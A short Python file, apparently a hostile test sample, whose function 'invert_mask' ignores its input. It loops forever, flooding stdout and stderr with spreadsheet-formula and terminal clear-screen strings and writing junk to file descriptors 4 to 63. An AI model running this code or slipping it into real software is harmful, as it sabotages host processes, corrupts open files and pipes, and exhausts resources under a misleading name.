"""Writes without end to the standard output and error, and to every other descriptor it finds."""

import contextlib
import os
import sys


def invert_mask(mask):
    while True:
        print("=HYPERLINK()\x1b[2J" * 1_000)
        print("x" * 10_000, file=sys.stderr)
        for descriptor in (1, 2, *range(4, 64)):
            with contextlib.suppress(OSError):
                os.write(descriptor, b"x" * 10_000)
